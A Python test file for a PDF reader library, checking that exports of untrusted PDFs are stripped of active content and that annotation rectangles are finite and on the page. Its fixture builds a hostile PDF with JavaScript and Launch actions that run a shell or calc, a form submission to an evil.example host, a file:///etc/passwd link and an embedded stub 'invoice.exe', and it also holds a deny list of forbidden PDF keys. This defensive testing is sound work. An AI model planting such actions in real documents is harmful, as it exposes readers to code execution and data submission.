"""Issue #22: an export of an untrusted original is inert (no actions, scripts, embedded files
or links other than internal ones and http(s)/mailto addresses), and an annotation's rectangle
is finite and on its page, so that `annotations --json` always prints JSON."""

from __future__ import annotations

import hashlib
import json
import math
from pathlib import Path

import pymupdf
import pytest

from reader.annotations import AnnotationError
from reader.cli import main as cli_main
from reader.library import Library
from reader.models import Annotation

EXE = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode."
JS = "<</S/JavaScript/JS(app.alert\\('{}'\\))>>"
LAUNCH = "<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>"
# What no object of an export may contain, in any spelling PyMuPDF prints it.
FORBIDDEN = ("/JS", "/JavaScript", "/Launch", "/EmbeddedFile", "/SubmitForm", "/ImportData",
             "/GoToR", "javascript:", "/AA", "/OpenAction", "/XFA", "/FileAttachment")  # fmt: skip
SAFE_URIS = {"https://example.org/source", "mailto:archivist@example.org"}


def _add_raw_annotation(pdf: pymupdf.Document, page: pymupdf.Page, body: str) -> None:
    """An annotation PyMuPDF has no maker for (Screen), written as a PDF object."""
    xref = pdf.get_new_xref()
    pdf.update_object(xref, f"<</Type/Annot/P {page.xref} 0 R{body}>>")
    kind, annots = pdf.xref_get_key(page.xref, "Annots")
    listed = annots.strip("[]") if kind == "array" else ""
    pdf.xref_set_key(page.xref, "Annots", f"[{listed} {xref} 0 R]")


def _hostile_pdf(path: Path) -> None:
    """Two pages carrying every kind of active content a PDF can hold, beside harmless links."""
    pdf = pymupdf.open()
    for text in ("A report with active content.", "The second page of the report."):
        pdf.new_page().insert_text((72, 60), text)
    page = pdf[0]
    links = [
        {"kind": pymupdf.LINK_GOTO, "page": 1, "to": pymupdf.Point(72, 72)},
        {"kind": pymupdf.LINK_URI, "uri": "https://example.org/source"},
        {"kind": pymupdf.LINK_URI, "uri": "mailto:archivist@example.org"},
        {"kind": pymupdf.LINK_URI, "uri": "  JavaScript:app.alert('link')"},
        {"kind": pymupdf.LINK_URI, "uri": "file:///etc/passwd"},
        {"kind": pymupdf.LINK_LAUNCH, "file": "/bin/sh"},
        {"kind": pymupdf.LINK_GOTOR, "file": "other.pdf", "page": 0, "to": pymupdf.Point(0, 0)},
    ]
    for row, link in enumerate(links):
        page.insert_link({**link, "from": pymupdf.Rect(72, 80 + 20 * row, 300, 95 + 20 * row)})
    for row, action in enumerate(
        ["<</S/ImportData/F(data.fdf)>>", "<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>"]
    ):
        top = 240 + 20 * row
        _add_raw_annotation(pdf, page, f"/Subtype/Link/Rect[72 {top} 300 {top + 15}]/A{action}")
    _add_raw_annotation(pdf, page, f"/Subtype/Screen/Rect[320 80 400 160]/A{JS.format('screen')}")

    text = page.add_text_annot((420, 80), "a note of the original")
    pdf.xref_set_key(text.xref, "A", JS.format("text"))
    pdf.xref_set_key(text.xref, "AA", f"<</E{LAUNCH}/X{JS.format('text-exit')}>>")
    square = page.add_rect_annot(pymupdf.Rect(320, 200, 400, 260))
    pdf.xref_set_key(square.xref, "A", "<</S/URI/URI(javascript:app.alert\\('square'\\))>>")
    free = page.add_freetext_annot(pymupdf.Rect(320, 300, 500, 340), "free text")
    pdf.xref_set_key(free.xref, "A", LAUNCH)
    pdf.xref_set_key(free.xref, "AA", f"<</D{LAUNCH}>>")
    page.add_file_annot(pymupdf.Point(420, 400), EXE, "invoice.exe")

    field = pymupdf.Widget()
    field.field_type = pymupdf.PDF_WIDGET_TYPE_TEXT
    field.field_name = "name"
    field.rect = pymupdf.Rect(72, 420, 300, 440)
    field.field_value = "a form field"
    made = page.add_widget(field)
    pdf.xref_set_key(made.xref, "AA", f"<</K{JS.format('keystroke')}/Fo{LAUNCH}>>")
    pdf.xref_set_key(made.xref, "A", "<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>")

    pdf.xref_set_key(page.xref, "AA", f"<</O{JS.format('page-open')}>>")
    catalog = pdf.pdf_catalog()
    pdf.embfile_add("invoice.exe", EXE, filename="invoice.exe")
    pdf.xref_set_key(catalog, "OpenAction", JS.format("opened"))
    pdf.xref_set_key(catalog, "Names/JavaScript", f"<</Names[(start){JS.format('names')}]>>")
    pdf.save(path)


def _objects(path: Path) -> list[str]:
    with pymupdf.open(path) as pdf:
        return [pdf.xref_object(x, compressed=True) for x in range(1, pdf.xref_length())]


def test_an_export_of_a_hostile_original_is_inert_and_keeps_the_researchers_notes(
    tmp_path: Path,
) -> None:
    original = tmp_path / "hostile.pdf"
    _hostile_pdf(original)
    before = hashlib.sha256(original.read_bytes()).hexdigest()
    out = tmp_path / "export.pdf"
    with Library(tmp_path / "library") as library:
        (imported,) = library.import_paths([original]).imported
        library.annotate(imported.id, 1, quote="active content", note="ask the archivist")
        library.annotate(imported.id, 2, note="a page note", author="Ana Čolić")
        library.export(imported.id, out)

    offending = [
        (o, word) for o in _objects(out) for word in FORBIDDEN if word.lower() in o.lower()
    ]
    assert offending == []
    with pymupdf.open(out) as pdf:
        assert pdf.embfile_count() == 0
        first, second = pdf[0], pdf[1]
        links = first.get_links()
        assert {link["uri"] for link in links if link["kind"] == pymupdf.LINK_URI} == SAFE_URIS
        assert [link["page"] for link in links if link["kind"] == pymupdf.LINK_GOTO] == [1]
        assert {link["kind"] for link in links} == {pymupdf.LINK_URI, pymupdf.LINK_GOTO}
        kinds = [(a.type[1], a.info["content"]) for a in first.annots()]
        assert ("Highlight", "ask the archivist") in kinds
        assert ("Text", "a note of the original") in kinds  # the original's own notes stay
        assert not {"Screen", "FileAttachment"} & {kind for kind, _ in kinds}
        assert [(a.type[1], a.info["content"], a.info["title"]) for a in second.annots()] == [
            ("Text", "a page note", "Ana Čolić")
        ]
        assert "active content" in first.get_text()
    assert hashlib.sha256(original.read_bytes()).hexdigest() == before


# Rectangles


@pytest.fixture
def one_page(tmp_path: Path) -> tuple[Path, int]:
    pdf = pymupdf.open()
    pdf.new_page(width=400, height=600).insert_text((72, 72), "A page of a report.")
    pdf.save(tmp_path / "report.pdf")
    with Library(tmp_path / "library") as library:
        (imported,) = library.import_paths([tmp_path / "report.pdf"]).imported
    return tmp_path / "library", imported.id


@pytest.mark.parametrize(
    "rect", ["nan,nan,inf,1e309", "10,10,inf,20", "-50,10,100,20", "10,10,100,900", "0,0,1e309,1"]
)
def test_a_rectangle_not_finite_or_off_the_page_is_refused_by_the_command_line(
    one_page: tuple[Path, int], rect: str, capsys: pytest.CaptureFixture[str]
) -> None:
    folder, doc = one_page
    common = ["--library", str(folder)]
    code = cli_main(["annotate", str(doc), "--page", "1", f"--rect={rect}", *common])
    error = capsys.readouterr().err
    assert code == 1 and "400 x 600" in error and len(error.strip().splitlines()) == 1
    assert cli_main(["annotations", "--json", *common]) == 0
    assert json.loads(capsys.readouterr().out) == {"annotations": []}


def test_a_rectangle_not_finite_or_off_the_page_is_refused_by_the_library(
    one_page: tuple[Path, int],
) -> None:
    folder, doc = one_page
    with Library(folder) as library:
        for rect in ([float("nan"), 0, 10, 10], [0, 0, float("inf"), 10], [0, 0, 10, 601]):
            with pytest.raises(AnnotationError, match="400 x 600"):
                library.annotate(doc, 1, rects=[rect])
        with pytest.raises(AnnotationError, match="X0,Y0,X1,Y1"):
            library.annotate(doc, 1, kind="highlight", rects=[[0, 0, 10]])
        made = library.annotate(doc, 1, rects=[[0, 0, 400, 600]], note="the whole page")
        assert made.rects == [[0.0, 0.0, 400.0, 600.0]]
        assert [a.rects for a in library.annotations(doc)] == [[[0.0, 0.0, 400.0, 600.0]]]


def test_a_stored_rectangle_that_is_not_json_is_refused_not_printed(
    one_page: tuple[Path, int], capsys: pytest.CaptureFixture[str]
) -> None:
    """A catalog written before rectangles were checked may hold NaN: `--json` says so in one
    line rather than print what no JSON reader takes."""
    folder, doc = one_page
    with Library(folder) as library, library.session() as session, session.begin():
        session.add(Annotation(document_id=doc, page=1, kind="area", rects=[[math.nan] * 4]))
    assert cli_main(["annotations", "--json", "--library", str(folder)]) == 1
    captured = capsys.readouterr()
    assert captured.out == "" and "NaN" not in captured.out
    assert "not JSON compliant" in captured.err and len(captured.err.strip().splitlines()) == 1
